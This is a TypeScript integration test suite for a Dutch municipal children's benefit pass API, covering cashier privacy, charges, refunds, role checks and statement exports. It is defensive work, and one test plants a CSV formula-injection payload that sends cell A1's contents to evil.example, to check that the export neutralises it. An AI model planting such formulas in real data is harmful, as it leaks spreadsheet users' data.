import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, demoEmails, loginAs, type Session, type TestApp } from '../../../test/support/app.ts';
import { FakeClock } from '../../platform/clock.ts';
import { parse as parseCsv } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { seedPassDemo } from './demo.ts';
import { passProviders } from './schema.ts';
import { passNumberFrom } from './domain.ts';

/** The HTTP API of the pass: who may do what, what a cashier gets to see, and the API key at the till. */
const clock = new FakeClock('2026-05-04T10:00:00Z');
let t: TestApp;
let cashier: Session;
let caseWorker: Session;
let admin: Session;
let analyst: Session;
let creditor: Session;
let otherCashier: Session;
let demoProviderId: string;
let bookshopProviderId: string;
const jansen = passNumberFrom('100000001');

beforeAll(async () => {
  t = await createTestApp({ clock });
  await seedPassDemo(t.db);
  [cashier, caseWorker, admin, analyst, creditor] = await Promise.all([
    loginAs(t.app, demoEmails.provider_cashier),
    loginAs(t.app, demoEmails.case_worker),
    loginAs(t.app, demoEmails.admin),
    loginAs(t.app, demoEmails.analyst),
    loginAs(t.app, demoEmails.creditor),
  ]);
  const providers = (await t.app.inject({ method: 'GET', url: '/api/v1/pass/providers', headers: admin.headers })).json() as {
    id: string;
    name: string;
    organisationId: string;
  }[];
  demoProviderId = providers.find((p) => p.name.startsWith('Sport en Cultuur'))!.id;
  const bookshop = providers.find((p) => p.name.startsWith('Boekhandel'))!;
  bookshopProviderId = bookshop.id;
  // A cashier at the bookshop, made by the administrator.
  const created = await t.app.inject({
    method: 'POST',
    url: '/api/v1/users',
    headers: admin.headers,
    payload: {
      organisationId: bookshop.organisationId,
      email: 'kassa@boekhandel.example',
      displayName: 'Bo Boekhandel',
      roles: ['provider_cashier'],
      password: 'Boekhandel-kassa-1',
    },
  });
  expect(created.statusCode).toBe(201);
  otherCashier = await loginAs(t.app, 'kassa@boekhandel.example', 'Boekhandel-kassa-1');
}, 300_000); // a loaded machine builds the app slowly
afterAll(() => t?.close());

describe('the till over HTTP', () => {
  it('shows a cashier only what a charge needs: no names, addresses or birth dates', async () => {
    const response = await t.app.inject({ method: 'POST', url: '/api/v1/pass/cashier/lookup', headers: cashier.headers, payload: { passNumber: jansen } });
    expect(response.statusCode).toBe(200);
    const body = response.json();
    expect(body.usable).toBe(true);
    expect(body.children).toEqual([
      { memberNumber: 2, initials: 'S.', ageGroup: 'primary', balanceCents: 30_000 - 12_500 },
      { memberNumber: 3, initials: 'T.', ageGroup: 'secondary', balanceCents: 50_000 },
    ]);
    expect(response.body).not.toMatch(/Jansen|Wielwijkstraat|2016-05-10|3315/);
    // The pass office's view of the same pass is closed to the cashier.
    const search = await t.app.inject({ method: 'POST', url: '/api/v1/pass/passes/search', headers: cashier.headers, payload: { number: jansen } });
    expect(search.statusCode).toBe(403);
    expect((await t.app.inject({ method: 'GET', url: '/api/v1/pass/applications', headers: cashier.headers })).statusCode).toBe(403);
  });

  it('refuses a mistyped pass number before looking it up', async () => {
    const wrong = jansen.slice(0, 9) + String((Number(jansen[9]) + 1) % 10);
    const response = await t.app.inject({ method: 'POST', url: '/api/v1/pass/cashier/lookup', headers: cashier.headers, payload: { passNumber: wrong } });
    expect(response.statusCode).toBe(400);
    expect(response.json().errors[0].reason).toContain('pasnummer klopt niet');
  });

  it('charges with a receipt, answers a retry with the same receipt, and explains a refusal as problem+json', async () => {
    const payload = { passNumber: jansen, memberNumber: 3, category: 'culture', amountCents: 2_000, idempotencyKey: 'http-charge-0001' };
    const first = await t.app.inject({ method: 'POST', url: '/api/v1/pass/charges', headers: cashier.headers, payload });
    expect(first.statusCode).toBe(201);
    expect(first.json()).toMatchObject({ amountCents: 2_000, balanceAfterCents: 48_000, category: 'Cultuur', replayed: false });
    const retry = await t.app.inject({ method: 'POST', url: '/api/v1/pass/charges', headers: cashier.headers, payload });
    expect(retry.statusCode).toBe(200);
    expect(retry.json()).toMatchObject({ receiptNumber: first.json().receiptNumber, replayed: true, balanceAfterCents: 48_000 });
    const tooMuch = await t.app.inject({
      method: 'POST',
      url: '/api/v1/pass/charges',
      headers: cashier.headers,
      payload: { ...payload, amountCents: 48_001, idempotencyKey: 'http-charge-0002' },
    });
    expect(tooMuch.statusCode).toBe(422);
    expect(tooMuch.headers['content-type']).toContain('application/problem+json');
    expect(tooMuch.json()).toMatchObject({
      code: 'insufficient_balance',
      detail: 'Het kindtegoed is niet genoeg: er is nog € 480,00 over en er is € 480,01 gevraagd. Er is niets afgeschreven.',
    });
    const leisure = await t.app.inject({
      method: 'POST',
      url: '/api/v1/pass/charges',
      headers: cashier.headers,
      payload: { ...payload, category: 'leisure', idempotencyKey: 'http-charge-0003' },
    });
    expect(leisure.statusCode).toBe(422);
    expect(leisure.json().detail).toContain('niet besteed worden aan uitjes');
    // With split the budget pays its € 480,00 and the receipt says the € 20,00 left; refunding it restores the balance.
    const split = await t.app.inject({
      method: 'POST',
      url: '/api/v1/pass/charges',
      headers: cashier.headers,
      payload: { ...payload, amountCents: 50_000, split: true, idempotencyKey: 'http-charge-0004' },
    });
    expect(split.statusCode).toBe(201);
    expect(split.json()).toMatchObject({ amountCents: 48_000, priceCents: 50_000, otherPaymentCents: 2_000, balanceAfterCents: 0 });
    const back = await t.app.inject({
      method: 'POST',
      url: '/api/v1/pass/refunds',
      headers: cashier.headers,
      payload: { receiptNumber: split.json().receiptNumber, idempotencyKey: 'http-refund-0004' },
    });
    expect(back.json()).toMatchObject({ kind: 'refund', amountCents: 48_000, balanceAfterCents: 48_000, otherPaymentCents: 0 });
  });

  it('works with the provider’s API key, and not for other roles', async () => {
    const created = await t.app.inject({
      method: 'POST',
      url: `/api/v1/organisations/${cashier.organisationId}/api-keys`,
      headers: admin.headers,
      payload: { name: 'Kassasysteem' },
    });
    expect(created.statusCode).toBe(201);
    const apiKey = created.json().key as string;
    const charged = await t.app.inject({
      method: 'POST',
      url: '/api/v1/pass/charges',
      headers: { authorization: `Bearer ${apiKey}` },
      payload: { passNumber: jansen, memberNumber: 2, category: 'sport', amountCents: 500, idempotencyKey: 'api-key-charge-01' },
    });
    expect(charged.statusCode).toBe(201);
    expect(charged.json().provider).toContain('Sport en Cultuur');
    for (const session of [caseWorker, analyst, creditor]) {
      const response = await t.app.inject({
        method: 'POST',
        url: '/api/v1/pass/charges',
        headers: session.headers,
        payload: { passNumber: jansen, memberNumber: 2, category: 'sport', amountCents: 1, idempotencyKey: 'not-allowed-001' },
      });
      expect(response.statusCode).toBe(403);
    }
    const noCsrf = await t.app.inject({
      method: 'POST',
      url: '/api/v1/pass/charges',
      headers: { cookie: cashier.headers.cookie! },
      payload: { passNumber: jansen, memberNumber: 2, category: 'sport', amountCents: 1, idempotencyKey: 'no-csrf-0001' },
    });
    expect(noCsrf.statusCode).toBe(403);
  });
});

describe('payout statements over HTTP', () => {
  it('gives a provider its own statement as JSON, CSV and PDF, and refuses another provider’s', async () => {
    const json = await t.app.inject({
      method: 'GET',
      url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31`,
      headers: cashier.headers,
    });
    expect(json.statusCode).toBe(200);
    const statement = json.json();
    expect(statement.totals.payoutCents).toBe(
      statement.lines.reduce((s: number, l: { kind: string; amountCents: number }) => s + (l.kind === 'charge' ? l.amountCents : -l.amountCents), 0),
    );
    expect(statement.totals.charges).toBeGreaterThanOrEqual(3);
    const csv = await t.app.inject({
      method: 'GET',
      url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31&format=csv`,
      headers: cashier.headers,
    });
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.body).toContain(`totaal uit te betalen;;;;${statement.totals.payoutCents};`);
    // A provider's name is chosen by people outside the municipality: a formula in it must not run in Excel.
    const hostileName = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")';
    await t.db.unaudited((q) => q.update(passProviders).set({ name: hostileName }).where(eq(passProviders.id, demoProviderId)));
    const hostile = await t.app.inject({
      method: 'GET',
      url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31&format=csv`,
      headers: cashier.headers,
    });
    const rows = parseCsv(hostile.body.replace(/^\uFEFF/, ''), { delimiter: ';' }) as string[][];
    expect(rows[0]!.at(-1)).toBe('aanbieder');
    expect(rows.slice(1).map((r) => r.at(-1))).toEqual(rows.slice(1).map(() => `'${hostileName}`));
    expect(rows.flat().filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
    expect(rows.slice(1).every((r) => /^-?\d+$/.test(r[6]!) && /^-?\d+,\d\d$/.test(r[7]!))).toBe(true);
    const pdf = await t.app.inject({
      method: 'GET',
      url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31&format=pdf`,
      headers: cashier.headers,
    });
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect(pdf.rawPayload.subarray(0, 4).toString()).toBe('%PDF');

    const foreign = await t.app.inject({
      method: 'GET',
      url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31`,
      headers: otherCashier.headers,
    });
    expect(foreign.statusCode).toBe(403);
    expect(foreign.json().detail).toContain('eigen organisatie');
    const own = await t.app.inject({
      method: 'GET',
      url: `/api/v1/pass/providers/${bookshopProviderId}/statement?from=2026-01-01&to=2026-12-31`,
      headers: otherCashier.headers,
    });
    expect(own.statusCode).toBe(200);
    expect(own.json().lines).toEqual([]);
    // The cashier's provider list holds only its own provider.
    const list = (await t.app.inject({ method: 'GET', url: '/api/v1/pass/providers', headers: otherCashier.headers })).json() as { id: string }[];
    expect(list.map((p) => p.id)).toEqual([bookshopProviderId]);
    // An analyst is no provider and no pass office.
    expect(
      (await t.app.inject({ method: 'GET', url: `/api/v1/pass/providers/${demoProviderId}/statement?from=2026-01-01&to=2026-12-31`, headers: analyst.headers }))
        .statusCode,
    ).toBe(403);
  });
});

describe('residents and the pass office over HTTP', () => {
  it('takes an online application with the reason in Dutch, and shows the pass and balances with reference and code', async () => {
    const applied = await t.app.inject({
      method: 'POST',
      url: '/api/v1/pass/applications',
      payload: {
        route: 'income',
        applicant: { initials: 'E.', surname: 'Online', birthDate: '1992-02-02', street: 'Reeweg', houseNumber: '8', postcode: '3327AB', city: 'Dordrecht' },
        children: [{ initials: 'F.', surname: 'Online', birthDate: '2019-03-03' }],
        monthlyNetIncomeCents: 160_000,
        assetsCents: 0,
      },
    });
    expect(applied.statusCode).toBe(201);
    const outcome = applied.json();
    expect(outcome.eligible).toBe(true);
    expect(outcome.reason).toContain('alleenstaande ouder');
    const status = await t.app.inject({
      method: 'POST',
      url: '/api/v1/pass/status',
      payload: { reference: outcome.reference, accessCode: outcome.accessCode },
    });
    expect(status.json().status).toBe('submitted');
    const wrong = await t.app.inject({ method: 'POST', url: '/api/v1/pass/status', payload: { reference: outcome.reference, accessCode: 'ZZZZ-ZZZZ-ZZZZ' } });
    expect(wrong.statusCode).toBe(403);

    const list = (await t.app.inject({ method: 'GET', url: '/api/v1/pass/applications?status=submitted', headers: caseWorker.headers })).json() as {
      id: string;
      reference: string;
      applicantName: string;
    }[];
    const mine = list.find((a) => a.reference === outcome.reference)!;
    expect(mine.applicantName).toBe('E. Online');
    const decided = await t.app.inject({
      method: 'POST',
      url: `/api/v1/pass/applications/${mine.id}/decision`,
      headers: caseWorker.headers,
      payload: { approve: true },
    });
    expect(decided.statusCode).toBe(200);
    const after = (
      await t.app.inject({ method: 'POST', url: '/api/v1/pass/status', payload: { reference: outcome.reference, accessCode: outcome.accessCode } })
    ).json();
    expect(after.pass.number).toBe(decided.json().pass.number);
    expect(after.budgets).toEqual([{ memberNumber: 2, initials: 'F.', ageGroup: 'primary', year: 2026, grantedCents: 30_000, balanceCents: 30_000 }]);
  });

  it('lets the pass office edit the norm table, and nobody else', async () => {
    const norm = { municipalityCode: 'GM0505', householdType: 'couple', validFrom: '2026-07-01', monthlyNormCents: 205_000, source: 'Normen per 1 juli 2026' };
    expect((await t.app.inject({ method: 'PUT', url: '/api/v1/pass/norms', headers: cashier.headers, payload: norm })).statusCode).toBe(403);
    expect((await t.app.inject({ method: 'PUT', url: '/api/v1/pass/norms', headers: caseWorker.headers, payload: norm })).statusCode).toBe(200);
    const config = (await t.app.inject({ method: 'GET', url: '/api/v1/pass/configuration', headers: caseWorker.headers })).json();
    expect(
      config.norms.find((n: { householdType: string; validFrom: string }) => n.householdType === 'couple' && n.validFrom === '2026-07-01').monthlyNormCents,
    ).toBe(205_000);
    expect(config.rules[0]).toMatchObject({ incomeLimitPercent: 140, primaryBudgetCents: 30_000, secondaryBudgetCents: 50_000 });
  });

  it('runs a campaign for the administrator only, and hands raw figures to no role', async () => {
    const payload = { code: 'kindcadeau-test', name: 'Kindcadeau', year: 2026, amountCents: 2_500 };
    expect((await t.app.inject({ method: 'POST', url: '/api/v1/pass/campaigns', headers: caseWorker.headers, payload })).statusCode).toBe(403);
    const first = (await t.app.inject({ method: 'POST', url: '/api/v1/pass/campaigns', headers: admin.headers, payload })).json();
    const second = (await t.app.inject({ method: 'POST', url: '/api/v1/pass/campaigns', headers: admin.headers, payload })).json();
    expect(first.credited).toBeGreaterThan(0);
    expect(second).toMatchObject({ credited: 0, alreadyCredited: first.credited });
    const differs = await t.app.inject({ method: 'POST', url: '/api/v1/pass/campaigns', headers: admin.headers, payload: { ...payload, amountCents: 5_000 } });
    expect(differs.statusCode).toBe(409);
    expect(differs.headers['content-type']).toContain('application/problem+json');
    expect(differs.json()).toMatchObject({ status: 409, code: 'campaign_differs' });
    expect(differs.json().detail).toContain('al uitgevoerd met € 25,00 per kind voor 2026');
    // Figures reach people only through insights (protected there); no role reads the raw counts per wijk.
    for (const who of [cashier, analyst, admin, caseWorker]) {
      const raw = await t.app.inject({ method: 'GET', url: '/api/v1/pass/figures?fromMonth=2026-05&toMonth=2026-05', headers: who.headers });
      expect(raw.statusCode).toBe(404);
    }
  });

  it('documents every pass route in the OpenAPI document', async () => {
    const doc = (await t.app.inject({ method: 'GET', url: '/api/v1/openapi.json' })).json() as { paths: Record<string, unknown> };
    for (const path of [
      '/api/v1/pass/charges',
      '/api/v1/pass/refunds',
      '/api/v1/pass/applications',
      '/api/v1/pass/status',
      '/api/v1/pass/providers/{id}/statement',
    ]) {
      expect(Object.keys(doc.paths)).toContain(path);
    }
  });
});
